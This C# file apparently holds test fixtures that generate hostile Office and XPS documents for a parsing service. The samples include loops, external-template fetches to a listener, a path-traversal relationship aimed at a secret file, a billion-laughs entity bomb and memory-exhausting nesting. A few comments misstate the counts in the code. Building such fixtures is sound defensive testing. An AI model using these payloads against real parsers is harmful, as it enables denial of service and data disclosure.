using System.Text;
using Mailroom.Reading.Tests;
using static Mailroom.Hostile.Making.Bytes;

namespace Mailroom.Hostile.Office;

/// <summary>Word and PowerPoint documents that are well packed and yet meant to harm.</summary>
internal static class WordAttacks
{
    private const string Paragraph = "<w:p><w:r><w:t>Invoice number 1</w:t></w:r></w:p>";

    public static IEnumerable<Attack> All(Bait bait) =>
    [
        new("docx-relationship-loop", "Parts name each other, and themselves, in a loop.", () => Samples.Docx(
            Paragraph + "<w:sectPr><w:headerReference w:type=\"default\" r:id=\"h\"/></w:sectPr>",
            ("word/_rels/document.xml.rels", Samples.Relationships(("h", "header", "document.xml"), ("s", "styles", "document.xml"), ("f", "footnotes", "document.xml"))))),
        new("docx-external-template", "The template, a picture and a frame are to be loaded from the network.", () => Samples.Docx(
            Paragraph, ("word/_rels/document.xml.rels", External(bait.Listener)), ("word/_rels/settings.xml.rels", External(bait.Listener)),
            ("word/settings.xml", Samples.Word("settings", "<w:attachedTemplate r:id=\"t\"/>")))),
        new("docx-relationship-outside", "The main part is a file of the server.", () => Samples.Zip(
            ("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"),
            ("_rels/.rels", Samples.Relationships(("r1", "officeDocument", "../../../../../.." + bait.SecretFile))))),
        new("docx-billion-laughs", "Entities that grow by ten at each of ten levels, in a document's text.", () => Samples.Zip(
            ("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"),
            ("_rels/.rels", Samples.Relationships(("r1", "officeDocument", "word/document.xml"))), ("word/document.xml", Xml.XmlAttacks.BillionLaughs()))),
        new("docx-deep-tables", "Tables within tables, nine hundred deep.", () => Samples.Docx(
            Times("<w:tbl><w:tr><w:tc>", 300) + Paragraph + Times("</w:tc></w:tr></w:tbl>", 300))),
        new("docx-deep-text-boxes", "Paragraphs within paragraphs, a hundred thousand deep.", () => Samples.Docx(Times("<w:p>", 100_000) + Times("</w:p>", 100_000))),
        new("docx-skipped-depth", "What is deleted is nested two hundred thousand deep.", () => Samples.Docx(
            Paragraph + "<w:del>" + Times("<w:x>", 200_000) + Times("</w:x>", 200_000) + "</w:del>")),
        new("docx-style-loop", "Styles are based on each other in a loop.", () => Samples.Docx(
            "<w:p><w:pPr><w:pStyle w:val=\"a\"/></w:pPr><w:r><w:t>Invoice number 1</w:t></w:r></w:p>",
            ("word/_rels/document.xml.rels", Samples.Relationships(("s", "styles", "styles.xml"))),
            ("word/styles.xml", Samples.Word("styles", "<w:style w:styleId=\"a\"><w:basedOn w:val=\"b\"/></w:style><w:style w:styleId=\"b\"><w:basedOn w:val=\"a\"/></w:style>")))),
        new("docx-style-chain", "Fifty thousand styles are each based on the one before, and each is used.", StyleChain),
        new("docx-footnote-repeated", "One long footnote is referred to fifty thousand times.", () => Samples.Docx(
            Times("<w:p><w:r><w:footnoteReference w:id=\"1\"/></w:r></w:p>", 50_000),
            ("word/_rels/document.xml.rels", Samples.Relationships(("f", "footnotes", "footnotes.xml"))),
            ("word/footnotes.xml", Samples.Word("footnotes", $"<w:footnote w:id=\"1\"><w:p><w:r><w:t>{NoiseText(200_000)}</w:t></w:r></w:p></w:footnote>")))),
        new("docx-one-row", "A table's row of half a million cells.", () => Samples.Docx("<w:tbl><w:tr>" + Times("<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>", 150_000) + "</w:tr></w:tbl>" + NoiseComment())),
        new("docx-many-attributes", "An element of two hundred thousand attributes.", () => Samples.Docx(
            "<w:p " + string.Concat(Enumerable.Range(0, 200_000).Select(number => $"a{number}=\"\" ")) + "/>" + Paragraph)),
        new("docx-fonts-of-any-size", "Sizes of letters that are no numbers, infinite or negative.", () => Samples.Docx(
            string.Concat(new[] { "NaN", "Infinity", "-1e308", "1e400", "x" }.Select(size => $"<w:p><w:r><w:rPr><w:sz w:val=\"{size}\"/></w:rPr><w:t>Invoice number {size}</w:t></w:r></w:p>")))),
        new("docx-chunks-in-chunks", "Twenty documents within the document hold twenty each, and so on, ten deep.", () => ChunksInChunks(depth: 10)),
        new("docx-chunk-of-itself", "The document holds its own main part as a document, in a loop.", () => Samples.Docx(
            Paragraph + "<w:altChunk r:id=\"c\"/>", ("word/_rels/document.xml.rels", Samples.Relationships(("c", "aFChunk", "document.xml"))))),
        new("docx-chunk-repeated", "One long text is to be shown fifty thousand times.", () => Samples.Docx(
            Times("<w:altChunk r:id=\"c\"/>", 50_000), ("word/_rels/document.xml.rels", Samples.Relationships(("c", "aFChunk", "a.txt"))), ("word/a.txt", NoiseText(200_000)))),
        new("docx-drawing-loop", "Charts refer to each other, and to themselves, in a loop.", () => Samples.Docx(
            Paragraph + "<w:p><w:r><c:chart r:id=\"c\" xmlns:c=\"c\"/></w:r></w:p>",
            ("word/_rels/document.xml.rels", Samples.Relationships(("c", "chart", "a.xml"))), ("word/a.xml", "<c:chart xmlns:c=\"c\" xmlns:r=\"r\" r:id=\"b\"/>"), ("word/_rels/a.xml.rels", Samples.Relationships(("b", "chart", "b.xml"))),
            ("word/b.xml", "<c:chart xmlns:c=\"c\" xmlns:r=\"r\" r:id=\"a\"/>"), ("word/_rels/b.xml.rels", Samples.Relationships(("a", "chart", "a.xml"))))),
        new("xps-many-glyphs", "A page of a million glyphs, each at a place of its own, under matrices that are no numbers.", () => XpsWriter.Write(
            "<Canvas RenderTransform=\"1e308,1e308,1e308,1e308,NaN,Infinity\">" + Times("<Glyphs OriginX=\"1e308\" OriginY=\"-1e308\" FontRenderingEmSize=\"9\" UnicodeString=\"Invoice number\"/>", 50_000) + "</Canvas>"
            + string.Concat(Enumerable.Range(0, 300_000).Select(number => $"<Glyphs OriginX=\"{number * 7 % 790}\" OriginY=\"{number * 13 % 1120}\" FontRenderingEmSize=\"9\" UnicodeString=\"a\"/>")))),
        new("xps-page-repeated", "A document shows one page a million times.", () => Samples.Zip(
            ("[Content_Types].xml", "<Types><Default Extension=\"fdseq\" ContentType=\"application/vnd.ms-package.xps-fixeddocumentsequence+xml\"/></Types>"),
            ("_rels/.rels", "<Relationships><Relationship Id=\"r\" Type=\"x/fixedrepresentation\" Target=\"a.fdseq\"/></Relationships>"), ("a.fdseq", Times("<a>", 1) + Times("<DocumentReference Source=\"a.fdoc\"/>", 1_000) + "</a>"),
            ("a.fdoc", "<a>" + Times("<PageContent Source=\"a.fpage\"/>", 1_000) + "</a>"), ("a.fpage", "<FixedPage Width=\"1\" Height=\"1\"><Glyphs FontRenderingEmSize=\"9\" UnicodeString=\"Invoice number\"/></FixedPage>"))),
        new("doc-pieces-over-each-other", "The pieces of an old Word document all lie at the same place, half a million of them.", PiecesOverEachOther),
        new("pptx-slide-repeated", "A presentation shows one slide a hundred thousand times.", () => Samples.Zip(
            ("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml\"/></Types>"),
            ("_rels/.rels", Samples.Relationships(("r1", "officeDocument", "ppt/presentation.xml"))),
            ("ppt/presentation.xml", "<p:presentation xmlns:p=\"p\" xmlns:r=\"r\">" + string.Concat(Enumerable.Range(0, 100_000).Select(number => $"<p:sldId id=\"{number}\" r:id=\"s\"/>")) + "</p:presentation>"),
            ("ppt/_rels/presentation.xml.rels", Samples.Relationships([.. Enumerable.Repeat(("s", "slide", "slide.xml"), 15_000)])),
            ("ppt/slide.xml", "<p:sld xmlns:p=\"p\" xmlns:a=\"a\"><a:p><a:r><a:t>Invoice number</a:t></a:r></a:p></p:sld>"))),
    ];

    public static string NoiseText(int length) => Convert.ToBase64String(Making.Bytes.Noise(length)).Replace('/', ' ');

    private static string NoiseComment() => $"<!--{NoiseText(400_000)}-->";

    private static string External(Uri listener) => "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + string.Concat(new[] { "attachedTemplate", "image", "frame", "subDocument", "oleObject", "header", "styles" }.Select((type, number) =>
            $"<Relationship Id=\"{(number == 0 ? "t" : "e" + number)}\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" Target=\"{listener}{type}\" TargetMode=\"{(number % 2 == 0 ? "External" : "Internal")}\"/>"))
        + "</Relationships>";

    private static byte[] ChunksInChunks(int depth)
    {
        var chunk = Samples.Docx(Paragraph);
        for (; depth > 0; depth--)
        {
            var ids = Enumerable.Range(0, 20).Select(number => "c" + number).ToList();
            chunk = Samples.Zip(
            [
                ("[Content_Types].xml", Encoding.UTF8.GetBytes("<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>")),
                ("_rels/.rels", Encoding.UTF8.GetBytes(Samples.Relationships(("r1", "officeDocument", "word/document.xml")))),
                ("word/document.xml", Encoding.UTF8.GetBytes(Samples.Word("document", "<w:body>" + string.Concat(ids.Select(id => $"<w:altChunk r:id=\"{id}\"/>")) + "</w:body>"))),
                ("word/_rels/document.xml.rels", Encoding.UTF8.GetBytes(Samples.Relationships([.. ids.Select(id => (id, "aFChunk", "inner.docx"))]))),
                ("word/inner.docx", chunk),
            ], System.IO.Compression.CompressionLevel.Optimal);
        }
        return chunk;
    }

    private static byte[] PiecesOverEachOther()
    {
        const int Pieces = 500_000;
        return LegacyWordWriter.Write([string.Concat(Enumerable.Repeat("Invoice number 1\r", 5_000)), "", "", "", "", "", "", ""], pieces:
        [
            2, .. BitConverter.GetBytes((12 * Pieces) + 4), .. Enumerable.Range(0, Pieces + 1).SelectMany(number => BitConverter.GetBytes(number * 4_000)),
            .. Enumerable.Repeat<byte[]>([0, 0, 0, 4, 0, 0, 0, 0], Pieces).SelectMany(piece => piece),
        ]);
    }

    private static byte[] StyleChain() => Samples.Docx(
        string.Concat(Enumerable.Range(0, 20_000).Select(number => $"<w:p><w:pPr><w:pStyle w:val=\"s{number}\"/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>")),
        ("word/_rels/document.xml.rels", Samples.Relationships(("s", "styles", "styles.xml"))),
        ("word/styles.xml", Samples.Word("styles", string.Concat(Enumerable.Range(0, 50_000).Select(number => $"<w:style w:styleId=\"s{number}\"><w:basedOn w:val=\"s{number + 1}\"/></w:style>")))));
}
